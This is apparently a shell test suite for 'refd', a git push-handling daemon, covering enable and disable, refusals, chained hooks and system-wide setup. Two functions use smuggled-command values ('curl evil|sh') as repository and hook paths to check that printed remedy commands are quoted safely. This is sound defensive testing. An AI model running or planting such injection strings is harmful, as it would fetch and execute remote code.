#!/bin/bash
# Proves refd enable and disable with real git. After enable, refd serves a
# push; after disable, git does. disable restores configuration and hooks to the
# byte. A repository that enable would break is refused unchanged, with a
# remedy. A foreign proc-receive hook keeps its refs. All repositories below a
# directory can be enabled without a change in them, and their own hooks run as
# before, in plain, bare and linked work trees. The list shows all enabled
# repositories.

# shellcheck source=tests/lib/scenario.sh
. "$(dirname "$0")/../lib/scenario.sh"
# shellcheck source=tests/lib/people.sh
. "$ROOT/tests/lib/people.sh"

# The test has a separate system configuration of git.
unset GIT_CONFIG_NOSYSTEM
export GIT_CONFIG_SYSTEM=$T/etc/gitconfig
mkdir "$T/etc" "$T/srv"

# Lists all files of a repository except refs and objects, without following
# links.
picture() { # NAME
	(cd "$T/$1" && find . \( -name objects -o -name refs -o -name logs \) \
		-prune -o -printf '%p %y %m %l\n' | sort &&
		cat config && sha1sum hooks/* 2>/dev/null)
}

push_served() { # REPORTED-AS NAME REF yes|no
	local before after said
	before=$(stat_of transactions)
	if ! said=$(git -C "$T/work" push -q "$T/$2" "HEAD:$3" 2>&1); then
		not_ok "$1" "$said"
		return
	fi
	after=$(stat_of transactions)
	if [ "$4" = yes ]; then
		is "$1" $((before + 1)) "$after"
	else
		is "$1" "$before" "$after"
	fi
}

# As check. The command's output goes to $T/said.
quietly() { # NAME COMMAND...
	if "${@:2}" >"$T/said" 2>&1; then ok "$1"; else
		not_ok "$1" "$(tail -n 1 "$T/said")"
	fi
}

says() { # REPORTED-AS WORDS
	if grep -q -e "$2" "$T/said"; then
		ok "$1"
	else
		not_ok "$1" "$(cat "$T/said")"
	fi
}

# ---- a single repository ----

there_and_back() {
	new_repo one.git bare
	printf '[receive]\n[gc] auto = 0' >>"$T/one.git/config"
	picture one.git >"$T/before"
	push_served 'before: git' one.git refs/heads/a no
	"$REFD" enable "$T/one.git" >"$T/said"
	says 'enable: says what it sets' 'receive.procReceiveRefs += adm!:refs'
	is 'enable: a line each' 9 "$(wc -l <"$T/said")"
	push_served 'after enable: refd' one.git refs/heads/b yes
	is 'listed' "enabled     $T/one.git" "$("$REFD" enable --list)"
	"$REFD" enable "$T/one.git" >"$T/said"
	is 'again: nothing' "$T/one.git: enabled already" "$(cat "$T/said")"
	"$REFD" disable "$T/one.git" >"$T/said"
	# The daemon's own part, refd/id and lock, stays.
	picture one.git | grep -v '^\./refd' >"$T/after"
	check 'disable: as it was, to the byte' diff "$T/before" "$T/after"
	push_served 'after disable: git' one.git refs/heads/c no
	prints_nothing 'listed no more' "$REFD" enable --list
	check 'the configuration is nobody else'\''s to read again' \
		test "$(stat -c %a "$T/one.git/config")" = 644
}

states() {
	new_repo kept.git bare
	new_repo half.git bare
	new_repo gone.git bare
	"$REFD" enable "$T"/{kept,half,gone}.git >/dev/null
	git config -f "$T/half.git/refd.gitconfig" \
		--unset-all receive.procReceiveRefs
	rm -r "$T/gone.git"
	"$REFD" enable --list >"$T/said"
	says 'list: enabled' "^enabled  *$T/kept.git\$"
	says 'list: gone' "^gone  *$T/gone.git\$"
	check 'list: JSON' python3 -c 'import json, sys
assert sorted(json.loads(line)["state"] for line in sys.stdin) == \
    ["enabled", "enabled", "gone"]' < <("$REFD" enable --list --json)
	check 'enable --all' "$REFD" enable --all >/dev/null
	is_enabled 'enable --all' "$T/half.git"
	check 'disable --all' "$REFD" disable --all >/dev/null
	prints_nothing 'disable --all: nothing is listed' "$REFD" enable --list
	is 'disable --all: nothing is set' '' \
		"$(git -C "$T/half.git" config refd.socket)"
}

is_enabled() { # REPORTED-AS REPOSITORY
	"$REFD" enable --list >"$T/said"
	says "$1: listed as enabled" "^enabled  *$2\$"
	"$REFD" doctor "$2" >"$T/said"
	is "$1: no part is missing" '' \
		"$(grep -E 'enable-|hook-|hooks-path|patterns-' "$T/said")"
}

# Another program writes a value, and then the whole file without comments. The
# hook stays as long as the configuration names it.
rewritten() {
	local at=$T/rewritten.git
	new_repo rewritten.git bare
	"$REFD" enable "$at" >/dev/null
	git -C "$at" config --replace-all receive.procReceiveRefs refs
	is_enabled 'rewritten value' "$at"
	push_served 'rewritten value: pushes go on' rewritten.git \
		refs/heads/a yes
	quietly 'rewritten value: disabled' "$REFD" disable "$at"
	check 'rewritten value: the hook is gone' \
		test ! -e "$at/hooks/proc-receive"
	is 'rewritten value: the value, too' '' \
		"$(git -C "$at" config receive.procReceiveRefs)"
	push_served 'rewritten value: git' rewritten.git refs/heads/b no
	"$REFD" enable --gate "$at" >/dev/null
	git config -f "$at/config" -z --list >"$T/values"
	while IFS=$'\n' read -r -d '' key value; do
		git config -f "$T/anew" --add "$key" "$value"
	done < <(sed -z 's/\n.*$/&/' "$T/values")
	cp "$T/anew" "$at/config"
	is_enabled 'written anew' "$at"
	"$REFD" enable "$at" >"$T/said"
	is 'written anew: nothing to do' "$at: enabled already" \
		"$(cat "$T/said")"
	quietly 'written anew: disabled' "$REFD" disable "$at"
	is 'written anew: no hook is left' '' \
		"$(find "$at/hooks" -lname '*refd')"
	push_served 'written anew: git' rewritten.git refs/heads/c no
	"$REFD" enable "$at" >/dev/null
	git config -f "$T/global" receive.procReceiveRefs refs
	GIT_CONFIG_GLOBAL=$T/global "$REFD" disable "$at" >"$T/said" 2>&1
	is 'a value elsewhere: disable refuses' 1 $?
	says 'a value elsewhere: the command' \
		"git config --file $T/global --unset-all receive.procReceiveRefs"
	check 'a value elsewhere: the hook stays' \
		test -e "$at/hooks/proc-receive"
	quietly 'a value elsewhere: disabled' "$REFD" disable "$at"
}

# Somebody sets core.hooksPath after enable.
hidden() {
	local at=$T/hidden.git file
	new_repo hidden.git bare
	"$REFD" enable "$at" >/dev/null
	mkdir -p "$T/elsewhere"
	for file in "$at/config" "$T/global"; do
		git config -f "$file" core.hooksPath "$T/elsewhere"
		GIT_CONFIG_GLOBAL=$T/global "$REFD" doctor "$at" >"$T/said"
		says "hidden hook, $file: the doctor" \
			"hooks-path.*core.hooksPath is $T/elsewhere"
		says "hidden hook, $file: the doctor names the command" \
			"git config --file $file --unset-all core.hooksPath"
		git config -f "$file" --unset core.hooksPath
	done
	is_enabled 'hidden hook: no more' "$at"
	"$REFD" disable "$at" >/dev/null
	rm "$T/global"
}

# The owner puts a link to another repository in the place of a listed one.
elsewhere() {
	new_repo listed.git bare && new_repo other.git bare
	"$REFD" enable "$T/listed.git" >/dev/null
	rm -r "$T/listed.git" && ln -s other.git "$T/listed.git"
	"$REFD" enable --all >/dev/null 2>"$T/said"
	is 'a link in place of a repository: refused' 1 $?
	says 'the reason' "listed.git leads to $T/other.git now"
	"$REFD" disable --all &>/dev/null
	is 'no change' 0 "$(grep -c refd "$T/other.git/config")"
}

# The daemon tells for each repository whether pushes would be served.
asks_the_daemon() {
	new_repo ask.git bare
	is 'served: no warning' '' "$("$REFD" enable "$T/ask.git" 2>&1 >/dev/null)"
	"$REFD" disable "$T/ask.git" >/dev/null
	"$REFD" enable --socket "$T/none" "$T/ask.git" >/dev/null 2>"$T/said"
	says 'nobody there: the reason' \
		"warning: $T/ask.git: .*cannot connect to $T/none"
	"$REFD" disable "$T/ask.git" >/dev/null
	yes '# nothing' | head -c 1100000 >>"$T/ask.git/config"
	picture ask.git >"$T/before"
	"$REFD" enable "$T/ask.git" >/dev/null 2>"$T/said"
	is 'not served: refused' 1 $?
	says 'not served: the reason' \
		"$T/ask.git: not enabled, because .*larger than 1 MiB"
	picture ask.git >"$T/after"
	check 'not served: unchanged' diff "$T/before" "$T/after"
	prints_nothing 'not served: not listed' "$REFD" enable --list
}

# On a terminal, and not where the lines of the repositories go.
progress() {
	new_repo many1.git bare
	new_repo many2.git bare
	local on_terminal='import os, pty, subprocess, sys
ours, its = pty.openpty()
subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=its)
os.close(its)
try: print(os.read(ours, 4096).replace(b"\r", b"\n").decode())
except OSError: pass'
	# There is no progress in the first second.
	mkdir "$T/slow"
	printf '#!/bin/sh\nsleep 1\nexec %s "$@"\n' "$(command -v git)" \
		>"$T/slow/git"
	chmod +x "$T/slow/git"
	PATH=$T/slow:$PATH python3 -c "$on_terminal" "$REFD" enable "$T"/many{1,2}.git \
		>"$T/said"
	says 'many: progress' '^Enabling repositories:  50% (1/2)'
	env -u GIT_CONFIG_SYSTEM python3 -c "$on_terminal" "$REFD" enable \
		--list >"$T/said"
	is 'terminal: no hint of git' '' "$(cat "$T/said")"
	is 'no terminal: no progress' '' \
		"$("$REFD" disable "$T"/many{1,2}.git 2>&1 >/dev/null)"
}

# A directory of repositories, and more repositories than a person reads about.
below() {
	local i repos=()
	mkdir -p "$T/below/deep"
	for i in {1..11}; do
		new_repo "below/deep/$i.git" bare
		repos+=("$T/below/deep/$i.git")
	done
	"$REFD" enable "$T/below" >"$T/said" 2>&1
	is 'a directory of repositories: refused' 1 $?
	says 'a directory of repositories: the command' \
		"$T/below: as root, \"refd enable --system --root $T/below\""
	"$REFD" enable "${repos[@]}" >"$T/said"
	is 'many: one line' '11 of 11 are enabled now' "$(cat "$T/said")"
	is 'many: enabled' 11 "$("$REFD" enable --list | grep -c "$T/below")"
	rm -r "$T/below/deep/3.git"
	"$REFD" disable "${repos[@]}" >"$T/said" 2>&1
	is 'many: a failure' 1 $?
	says 'many: which one' 'below/deep/3.git'
	says 'many: and the others' '^10 of 11 are disabled now'
	"$REFD" disable --all >/dev/null
	rm -r "$T/below"
}

# ---- refusals ----

refused() { # REPORTED-AS NAME WORDS [OPTION...]
	local name=$1 repo=$2 words=$3
	shift 3
	picture "$repo" >"$T/before"
	if "$REFD" enable "$@" "$T/$repo" >"$T/said" 2>&1; then
		not_ok "$name: refused" "$(cat "$T/said")"
	else
		says "$name: refused, and why" "$words"
	fi
	picture "$repo" >"$T/after"
	check "$name: left alone" diff "$T/before" "$T/after"
}

refusals() {
	new_repo bad.git bare
	git -C "$T/bad.git" config receive.shallowUpdate true
	refused 'shallowUpdate' bad.git 'shallowUpdate.*unset it'
	git -C "$T/bad.git" config --unset receive.shallowUpdate
	mkdir "$T/others"
	git -C "$T/bad.git" config core.hooksPath "$T/others"
	refused 'hooks of another'\''s' bad.git 'link proc-receive there'
	git -C "$T/bad.git" config --unset core.hooksPath
	git -C "$T/bad.git" config core.hooksPath ''
	refused 'an empty core.hooksPath' bad.git 'core.hooksPath is /,'
	git -C "$T/bad.git" config --unset core.hooksPath
	refused 'nothing to chain' bad.git 'no other proc-receive' \
		--chain refs/for
	printf '#!/bin/sh\n' >"$T/bad.git/hooks/proc-receive"
	chmod +x "$T/bad.git/hooks/proc-receive"
	refused 'another hook' bad.git 'another proc-receive.*--chain'
	for format in 'refStorage files:///elsewhere' \
		'compatObjectFormat sha256'; do
		new_repo odd.git bare
		# shellcheck disable=SC2086 # key and value
		git -C "$T/odd.git" config extensions.$format
		refused "extensions.${format% *}" odd.git \
			"refd does not serve.*${format% *}"
		rm -rf "$T/odd.git"
	done
	with_people 'other owners' || return
	new_repo alien.git bare
	picture alien.git >"$T/before"
	if REFD_STATE=$T/nobody as 65534 "$REFD" enable "$T/alien.git" \
		>"$T/said" 2>&1; then
		not_ok 'another'\''s repository' "$(cat "$T/said")"
	else
		says 'another'\''s repository' 'belongs to root: enable it as'
	fi
	chown -R 65534:65534 "$T/alien.git"
	mkdir "$T/spy"
	cat >"$T/spy/git" <<-END
		#!/bin/sh
		echo "\$(id -u) \$(id -G)" >>"$T/ids"
		exec "$(command -v git)" "\$@"
	END
	chmod +x "$T/spy/git"
	install -m 666 /dev/null "$T/ids"
	quietly 'root for its owner' env PATH="$T/spy:$PATH" setpriv \
		--groups 0,4 "$REFD" enable "$T/alien.git"
	check 'root for its owner: its git runs as the owner' \
		grep -q '^65534 ' "$T/ids"
	is 'root for its owner: in none of root'\''s groups' '' \
		"$(sed -n 's/^65534 //p' "$T/ids" | grep -w -e 0 -e 4)"
	is 'root for its owner: all is the owner'\''s' '' \
		"$(find "$T/alien.git" ! -user 65534)"
	"$REFD" disable "$T/alien.git" >/dev/null
	install -d -m 700 "$T/closed" "$T/closed/below"
	git init -q "$T/closed/below"
	git config -f "$T/system" safe.directory '*'
	quietly 'root in a directory that is closed to the owner' \
		env -C "$T/closed/below" -u GIT_CONFIG_NOSYSTEM \
		GIT_CONFIG_SYSTEM="$T/system" "$REFD" enable "$T/alien.git"
	"$REFD" disable "$T/alien.git" >/dev/null
	picture alien.git >"$T/after"
	check 'and back' diff "$T/before" "$T/after"
	install -d -o 65534 "$T/theirs"
	new_repo theirs/roots.git bare
	chown -R 0:0 "$T/theirs/roots.git"
	refused 'root'\''s in a directory of another' theirs/roots.git \
		'another user may write to a directory above it'
	"$REFD" doctor "$T/theirs/roots.git" >"$T/said" 2>&1
	says 'the doctor does not go there either' \
		'another user may write to a directory above it'
	chmod 555 "$T/alien.git/hooks"
	refused 'a directory that is not writable' alien.git \
		'make it writable for its owner'
}

# Somebody copies the commands in messages into a shell. A user chose the path
# and the values.
copied() {
	local evil=';curl evil|sh;#' at
	at=$T/a$evil
	new_repo "a$evil" bare
	git -C "$at" config refd.socket "$T/b$evil"
	"$REFD" enable "$at" >"$T/said" 2>&1
	says 'a path that is a command: enable' \
		"\"git config --file '$at/config' --unset-all refd.socket\""
	git -C "$at" config refd.fallback refuse
	env -u REFD_SOCKET "$REFD" update -C "$at" refs/heads/a "$ZERO" \
		>"$T/said" 2>&1
	says 'a socket that is a command: update' \
		"start the daemon: refd daemon --socket '$T/b$evil'"
	"$REFD" restore --repo "$at" --ref refs/heads/none --at 1 \
		>"$T/said" 2>&1
	says 'a path that is a command: restore' \
		"\"refd log --repo '$at'\""
	rm -rf "$at"
	mkdir "$at"
	new_repo "a$evil/b.git" bare
	"$REFD" enable "$at" >"$T/said" 2>&1
	says 'a directory that is a command: enable' " '$at'\" enables"
	rm -rf "$at"
}

# ---- with a foreign hook ----

# The directory that the record names is gone, because refd was installed in a
# different place.
moved() {
	local at=$T/moved copy=$T/copy
	mkdir -p "$copy/bin"
	cp "$REFD" "$copy/bin"
	cp -a "$(dirname "$REFD")/../share" "$copy"
	sed -i "s|^\(.*hooksPath = \).*|\1$at|" "$T/chain.git/refd.gitconfig"
	"$REFD" doctor "$T/chain.git" >"$T/said" 2>&1
	says 'moved: the doctor says so' "there is no $at/proc-receive"
	rm "$copy/share/refd/hooks/pre-receive"
	ln -sf "$copy/bin/refd" "$copy/share/refd/hooks/proc-receive"
	"$copy/bin/refd" enable "$T/chain.git" >"$T/said" 2>&1
	is 'moved: not to a directory without the forwarder' 1 $?
	says 'moved: with the remedy' 'install refd again'
	quietly 'moved: enabled again' "$REFD" enable "$T/chain.git"
	push_served 'moved: a branch is refd'\''s' chain.git refs/heads/b yes
}

chained() {
	new_repo chain.git bare
	cat >"$T/chain.git/hooks/proc-receive" <<-'END'
		#!/bin/sh
		echo theirs >>theirs
		exit 1
	END
	chmod +x "$T/chain.git/hooks/proc-receive"
	git -C "$T/chain.git" config receive.procReceiveRefs refs/for
	git -C "$T/chain.git" config --add receive.procReceiveRefs refs
	picture chain.git >"$T/before"
	check 'chained: enabled' "$REFD" enable --chain refs/for \
		"$T/chain.git" >"$T/said"
	is 'chained: refd.chain' refs/for "$(git -C "$T/chain.git" \
		config refd.chain)"
	push_served 'chained: a branch is refd'\''s' chain.git refs/heads/a yes
	check 'chained: their hook was not asked' test ! -e "$T/chain.git/theirs"
	git -C "$T/work" push -q "$T/chain.git" HEAD:refs/for/main 2>/dev/null
	is 'chained: it has its own refs' theirs "$(cat "$T/chain.git/theirs")"
	rm "$T/chain.git/theirs"
	moved
	"$REFD" disable "$T/chain.git" >/dev/null
	picture chain.git | grep -v '^\./refd' >"$T/after"
	check 'chained: and back' diff "$T/before" "$T/after"
}

# ---- all below a directory ----

# Each hook reports its directory and input.
tell_tale() { # HOOKS-DIRECTORY HOOK...
	local dir=$1 hook
	shift
	for hook; do
		cat >"$dir/$hook" <<-END
			#!/bin/sh
			{
				echo "$hook args: \$*"
				case $hook in
				pre-receive | post-receive) echo "stdin: \$(cat)" ;;
				esac
			} >>"$T/told"
			[ ! -e "$T/refuse-$hook" ]
		END
		chmod +x "$dir/$hook"
	done
}

told() { # REPORTED-AS LINE
	if grep -qxF -e "$2" "$T/told"; then
		ok "$1"
	else
		not_ok "$1" "$(cat "$T/told")"
	fi
}

system_bare() {
	local tip
	tip=$(git -C "$T/work" rev-parse HEAD)
	: >"$T/told"
	push_served 'system, bare: refd' srv/bare.git refs/heads/a yes
	told 'system, bare: pre-receive has its input' \
		"stdin: $ZERO $tip refs/heads/a"
	told 'system, bare: post-receive' 'post-receive args: '
	told 'system, bare: post-update' 'post-update args: refs/heads/a'
	touch "$T/refuse-pre-receive"
	git -C "$T/work" push -q "$T/srv/bare.git" HEAD:refs/heads/b \
		2>"$T/said"
	says 'system, bare: pre-receive may refuse' 'pre-receive hook declined'
	rm "$T/refuse-pre-receive"
	tell_tale "$T/srv/bare.git/hooks" update
	check 'system, bare: a push with an update hook' \
		git -C "$T/work" push -q "$T/srv/bare.git" HEAD:refs/heads/c
	told 'system, bare: update has its arguments' "update args: refs/heads/c \
$ZERO $tip"
}

system_work_trees() {
	local repo
	git -C "$T/srv/plain" worktree add -q "$T/srv/linked" -b linked
	told 'system: post-checkout, in a new work tree' \
		"post-checkout args: $ZERO \
$(git -C "$T/srv/plain" rev-parse HEAD) 1"
	for repo in plain linked; do
		: >"$T/told"
		check "system, $repo: commit" git -C "$T/srv/$repo" commit -q \
			--allow-empty -m here
		told "system, $repo: pre-commit" 'pre-commit args: '
		told "system, $repo: post-commit" 'post-commit args: '
		touch "$T/refuse-pre-commit"
		check "system, $repo: pre-commit may refuse" test "$(git -C \
			"$T/srv/$repo" commit -q --allow-empty -m no \
			>/dev/null 2>&1; echo $?)" = 1
		rm "$T/refuse-pre-commit"
	done
	: >"$T/told"
	mkdir "$T/srv/plain/below"
	check 'system: a hook from below the top' \
		git -C "$T/srv/plain/below" commit -q --allow-empty -m below
	told 'system: pre-commit, from below' 'pre-commit args: '
	: >"$T/told"
	git --git-dir="$T/srv/plain/.git" --work-tree="$T/srv/plain" commit -q \
		--allow-empty -m named
	told 'system: pre-commit, GIT_DIR named' 'pre-commit args: '
}

# A forwarder must not disable git's behaviour without a hook.
system_update_instead() {
	git clone -q "$T/work" "$T/srv/instead"
	git -C "$T/srv/instead" config receive.denyCurrentBranch updateInstead
	echo text >"$T/work/file"
	git -C "$T/work" add file
	git -C "$T/work" commit -q -m 'a file'
	check 'updateInstead: pushed' \
		git -C "$T/work" push -q "$T/srv/instead" HEAD:main
	is 'updateInstead: and checked out' text "$(cat "$T/srv/instead/file")"
	echo mine >"$T/srv/instead/file"
	git -C "$T/work" commit -q --allow-empty -m more
	git -C "$T/work" push -q "$T/srv/instead" HEAD:main 2>"$T/said"
	says 'updateInstead: what is dirty is refused' 'unstaged changes'
	is 'updateInstead: and kept' mine "$(cat "$T/srv/instead/file")"
	: >"$T/told"
	tell_tale "$T/srv/instead/.git/hooks" push-to-checkout
	check 'push-to-checkout: pushed' \
		git -C "$T/work" push -q "$T/srv/instead" HEAD:main
	told 'push-to-checkout: its own hook' "push-to-checkout args: \
$(git -C "$T/work" rev-parse HEAD)"
}

system_values() {
	cat "$T/etc/gitconfig"
	git config -f "$T/etc/refd/gitconfig" --list
}

# Proves that a second root comes and goes without a trace, and that no root gets
# a socket of its own.
system_second() {
	mkdir -p "$T/srv2"
	system_values >"$T/before.second"
	"$REFD" enable --system --root "$T/srv2" --socket "$T/second.sock" \
		>"$T/said" 2>&1
	is 'system: a socket is refused' 129 $?
	says 'system: with the setting' \
		'git config --file /etc/refd/gitconfig refd.socket PATH'
	check 'system: and nothing was done, again' cmp "$T/before.second" \
		<(system_values)
	check 'system: a second root' "$REFD" enable --system \
		--root "$T/srv2" >"$T/said"
	check 'system: which is disabled' "$REFD" disable --system \
		--root "$T/srv2" >"$T/said"
	check 'system: all of it as before' cmp "$T/before.second" \
		<(system_values)
}

# The owner has enabled a repository beside another hook, with a list of the
# owner's.
system_chained() {
	local at=$T/srv/chained.git
	git clone -q --bare "$T/work" "$at"
	printf '#!/bin/sh\n' >"$at/hooks/proc-receive"
	chmod +x "$at/hooks/proc-receive"
	mkdir "$T/owner.etc"
	owner() { # COMMAND...
		REFD_STATE=$T/owner.state \
			GIT_CONFIG_SYSTEM=$T/owner.etc/gitconfig \
			"$REFD" "$@" >/dev/null
	}
	owner enable --chain refs/for/ "$at"
	sed -i "s|^\(.*hooksPath = \).*|\1$T/other.refd|" "$at/refd.gitconfig"
	quietly 'system, chained before by another refd: enabled' "$REFD" \
		enable --system --root "$T/srv" --chain refs/for/
	"$REFD" disable --system >/dev/null
	owner disable "$at"
	mkdir "$T/by.hand"
	ln -s "$REFD" "$T/by.hand/proc-receive"
	git -C "$at" config core.hooksPath "$T/by.hand"
	quietly 'system, linked by hand as the message says' "$REFD" enable \
		--system --root "$T/srv" --chain refs/for/
	"$REFD" disable --system >/dev/null
	rm -rf "$at"
	"$REFD" enable --system --gate >"$T/said" 2>&1
	is 'system, gate: refused' 129 $?
	says 'system, gate: the command' 'run refd enable --gate <repository>'
}

system_refused() { # REPORTED-AS WORDS
	"$REFD" enable --system --root "$T/srv" >"$T/said" 2>&1
	is "system, $1: refused" 1 $?
	says "system, $1: why" "$2"
	check "system, $1: nothing was done" test ! -e "$T/etc/refd"
}

# Git finds a value of a repository also in other files than its configuration,
# and a relative path in the repository. Somebody copies the printed command
# into a shell of root.
system_hidden() {
	local at=$T/srv/bare.git evil='/x;curl evil|sh;#' own
	own=$(<"$at/config")
	git -C "$at" config include.path more
	git config -f "$at/more" core.hooksPath hooks2
	system_refused 'a relative path in an included file' \
		"bare.git: its own core.hooksPath, $at/hooks2,"
	says 'system, a relative path: the command' \
		"as its owner, user $(stat -c %u "$at"), run \
\"ln -s $REFD $at/hooks2/proc-receive\""
	mkdir "$at/hooks2"
	ln -s "$REFD" "$at/hooks2/proc-receive"
	quietly 'system, a relative path: enabled with that link' "$REFD" \
		enable --system --root "$T/srv"
	quietly 'system: disabled, and no root named' "$REFD" disable --system
	git config -f "$at/more" core.hooksPath "$evil"
	system_refused 'a path that is a command' \
		"\"ln -s $REFD '$evil/proc-receive'\""
	git config -f "$at/more" core.hooksPath ''
	system_refused 'an empty path' 'bare.git: its own core.hooksPath is empty'
	check 'system, an empty path: no command makes a hook in /' \
		test "$(grep -c 'ln -s' "$T/said")" = 0
	rm "$at/more"
	git config -f "$at/more" receive.shallowUpdate true
	system_refused 'shallowUpdate in an included file' \
		'bare.git: receive.shallowUpdate'
	printf '%s\n' "$own" >"$at/config"
	git -C "$at" config extensions.worktreeConfig true
	git config -f "$at/config.worktree" core.hooksPath "$T/others"
	system_refused 'a path in config.worktree' \
		"bare.git: its own core.hooksPath, $T/others,"
	printf '%s\n' "$own" >"$at/config"
	rm -r "$at/more" "$at/config.worktree" "$at/hooks2"
}

# Proves that disable says what still sends the pushes of a repository to refd,
# and lets its daemon keep it.
system_stays() { # REPORTED-AS BRANCH
	local at=$T/srv/later.git
	cp "$at/refd/id" "$T/id"
	"$REFD" disable "$at" >"$T/said" 2>&1
	is "$1: disable of one fails" 1 $?
	says "$1: the command" "$at: enabled by the system's configuration; \
\"refd disable --system --root $T/srv/\" ends that"
	check "$1: it stays with the journal" cmp "$T/id" "$at/refd/id"
	check "$1: it has no record" test ! -e "$at/refd.gitconfig"
	is "$1: it is not listed" '' "$("$REFD" enable --list | grep "$at")"
	push_served "$1: refd" srv/later.git "refs/heads/$2" yes
}

# Proves that disable names the file of the user whose values send the pushes
# of a repository to refd, while the system enables others.
user_stays() {
	local at=$T/users.git said='values of the user'
	new_repo users.git bare
	mkdir "$T/users.hooks"
	ln -s "$REFD" "$T/users.hooks/proc-receive"
	git config -f "$T/global" core.hooksPath "$T/users.hooks"
	git config -f "$T/global" --add receive.procReceiveRefs refs
	git config -f "$T/global" --add receive.procReceiveRefs 'adm!:refs'
	GIT_CONFIG_GLOBAL=$T/global "$REFD" disable "$at" >"$T/said" 2>&1
	is "$said: disable fails" 1 $?
	says "$said: the command" "$at: enabled by .*run \
\"git config --file $T/global --unset-all receive.procReceiveRefs"
	quietly "$said: the command works" bash -c \
		"$(sed 's/.*"\(git config [^"]*\)".*/\1/' "$T/said")"
	GIT_CONFIG_GLOBAL=$T/global quietly "$said: disable goes on" \
		"$REFD" disable "$at"
	rm -r "$T/global" "$T/users.hooks" "$at"
}

# A repository of another owner is below the root, too. The daemon refuses it,
# so git takes the pushes, and tells the pusher why.
system_others() {
	local at=$T/srv/alien.git
	with_people 'system, another owner' || return
	git clone -q --bare "$T/work" "$at"
	chown -R 65534:65534 "$at"
	as 65534 git -C "$at" push -q "$at" HEAD:refs/heads/a >"$T/said" 2>&1
	is 'system, another owner: a push' 0 $?
	says 'system, another owner: who does it' \
		'refd: .*; git updates the refs itself'
	"$REFD" enable "$at" >"$T/said" 2>&1
	is 'system, another owner: enable of root' 0 $?
	says 'system, another owner: the reason' \
		"warning: $at: the daemon does not serve it now: "
	as 65534 git -C "$at" config refd.fallback refuse
	as 65534 git -C "$at" push -q "$at" HEAD:refs/heads/b >"$T/said" 2>&1
	is 'system, another owner: refused, if that is wanted' 1 $?
	rm -rf "$at"
}

system_wide() {
	local repo
	git clone -q --bare "$T/work" "$T/srv/bare.git"
	git clone -q "$T/work" "$T/srv/plain"
	tell_tale "$T/srv/bare.git/hooks" pre-receive post-receive post-update
	tell_tale "$T/srv/plain/.git/hooks" pre-commit post-commit post-checkout
	for repo in bare.git plain; do
		picture "srv/$repo" >"$T/before.$repo" 2>/dev/null
	done
	git config --system user.useConfigOnly true
	cp "$T/etc/gitconfig" "$T/etc.before"
	system_chained
	git -C "$T/srv/bare.git" config core.hooksPath "$T/others"
	"$REFD" enable --system --root "$T/srv" >"$T/said" 2>&1
	says 'system: refused where it would break one' \
		'bare.git: its own core.hooksPath'
	check 'system: and nothing was done' test ! -e "$T/etc/refd"
	git -C "$T/srv/bare.git" config --unset core.hooksPath
	system_hidden
	check 'system: enabled' "$REFD" enable --system --root "$T/srv" \
		>"$T/said"
	says 'system: says the include' "includeIf.gitdir:$T/srv/.path +="
	"$REFD" enable --list >"$T/said"
	says 'system: listed' "^enabled  *$T/srv/  system"
	is 'system: again' "$GIT_CONFIG_SYSTEM: enabled already" \
		"$("$REFD" enable --system --root "$T/srv")"
	for repo in bare.git plain; do
		picture "srv/$repo" >"$T/after.$repo" 2>/dev/null
		check "system: $repo untouched" \
			diff "$T/before.$repo" "$T/after.$repo"
	done
	system_second
	system_bare
	system_others
	system_work_trees
	system_update_instead
	git clone -q --bare "$T/work" "$T/srv/later.git"
	push_served 'system: one that came later' srv/later.git refs/heads/x yes
	is 'system: update, no hook there' '' "$("$REFD" update -C \
		"$T/srv/later.git" refs/heads/y \
		"$(git -C "$T/work" rev-parse HEAD)" 2>&1)"
	system_stays 'system, alone' alone
	"$REFD" enable "$T/srv/later.git" >/dev/null
	system_stays 'system, and by itself' itself
	user_stays
	"$REFD" enable "$T/srv/later.git" >/dev/null
	quietly 'system: all disabled' "$REFD" disable --all
	check 'system: the configuration as it was' \
		cmp "$T/etc.before" "$T/etc/gitconfig"
	check 'system: nothing left' test ! -e "$T/etc/refd"
	push_served 'system: git again' srv/later.git refs/heads/z no
	is 'system: nothing to be undone twice' \
		"$GIT_CONFIG_SYSTEM: not enabled" "$("$REFD" disable --system)"
	mkdir -p "$T/etc/refd"
	git config --file "$T/etc/refd/gitconfig" refd.socket "$T/early.sock"
	"$REFD" disable --system >/dev/null 2>&1
	"$REFD" disable --system --root "$T/typo" >/dev/null 2>&1
	is 'system: the socket for a first root stays' "$T/early.sock" \
		"$(git config --file "$T/etc/refd/gitconfig" refd.socket)"
	rm "$T/etc/refd/gitconfig"
}

# ---- the effect of core.fsync on git ----

fsync_is_meant() {
	local said
	if ! command -v strace >/dev/null ||
		! strace -o /dev/null true 2>/dev/null; then
		skip 'core.fsync' 'no strace'
		return
	fi
	new_repo sync.git bare
	"$REFD" enable "$T/sync.git" >/dev/null
	git -C "$T/work" push -q "$T/sync.git" HEAD:refs/heads/a
	said=$(strace -f -y -e trace=fsync,fdatasync git -C "$T/sync.git" \
		pack-refs --all 2>&1)
	check 'core.fsync: git flushes packed-refs then' \
		grep -q 'sync(.*packed-refs' <<<"$said"
	"$REFD" disable "$T/sync.git" >/dev/null
}

start_daemon || finish
new_repo work
there_and_back
states
rewritten
hidden
elsewhere
asks_the_daemon
progress
below
refusals
copied
chained
system_wide
fsync_is_meant
stop_daemon
finish
